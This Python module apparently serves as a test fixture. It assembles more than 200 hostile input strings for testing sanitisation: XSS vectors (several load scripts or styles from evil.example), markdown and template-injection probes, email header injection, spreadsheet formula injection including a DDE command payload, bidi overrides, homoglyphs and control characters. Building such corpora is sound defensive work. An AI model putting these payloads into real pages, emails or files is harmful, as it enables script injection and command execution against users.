"""What people write who want to do harm (A02, A08, A11, A23): two hundred texts, each one another."""

from __future__ import annotations

from itertools import product

OVERRIDES = ("\u202a", "\u202b", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u200f")
SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<math><mtext></p><img src=x onerror=alert(1)></math>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert`1`>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "＜script＞alert(1)＜/script＞",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
)
ENDINGS = ("", '">', "'>", "</textarea>", "</p></article>", "-->", "]]>")
"""What each is tried behind: it ends where a text might stand."""
MARKDOWN = (
    "[click](javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "![x](https://evil.example/x.png)",
    "<https://evil.example>",
    "[x]: https://evil.example 'y'",
    "```html\n<script>alert(1)</script>\n```",
    "# heading <h1>",
    "| a | b |\n|---|---|",
    "javascript:alert(1)",
    "vbscript:msgbox(1)",
)
TEMPLATES = (
    "{{7*7}}",
    "{% print 7*7 %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(x)s %s {0}",
    "{{config}}",
    "{{''.__class__}}",
)
HEADS = (
    "Hello\r\nBcc: victim@evil.example",
    "Hello\nContent-Type: text/html\n\n<b>x</b>",
    "Hello\r\n\r\n--boundary",
    "Hello\u2028Bcc: victim@evil.example",
    "Hello\x0bSubject: other",
    "=?utf-8?q?Bcc:_victim=40evil.example?=",
    "Hello\x85Bcc: victim@evil.example",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example","x")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
    " =1+1",
)
ZALGO = (
    "Z" + "\u0316\u0317\u0318\u0319\u0300\u0301\u0302\u0303" * 12,
    "".join(letter + "\u0489\u0338\u0334\u035c" * 6 for letter in "He comes"),
    "a" + "\u0e47" * 60,
)
LOOKALIKES = (
    "Тhe tеаm",
    "Ｔｈｅ ｔｅａｍ",
    "The te\u200bam",
    "Ｄｒ Patel",
    "𝐓𝐡𝐞 𝐭𝐞𝐚𝐦",
    "T\u0336h\u0336e team",
)
NOTHINGS = (
    "before\x00after",
    "\x00",
    "\ufeffstart",
    "\ufffe\uffff end",
    "\x1b[31mred",
    "\x08\x08\x08back",
    "\x7f",
)
LONG = "long " * 200_000
"""A million characters."""

PAYLOADS: tuple[str, ...] = (
    *(f"{ending}{script}" for script, ending in product(SCRIPTS, ENDINGS)),
    *MARKDOWN,
    *TEMPLATES,
    *HEADS,
    *FORMULAS,
    *(f"left {sign}right{sign} left" for sign in OVERRIDES),
    *ZALGO,
    *LOOKALIKES,
    *NOTHINGS,
)
assert len(set(PAYLOADS)) == len(PAYLOADS) >= 200
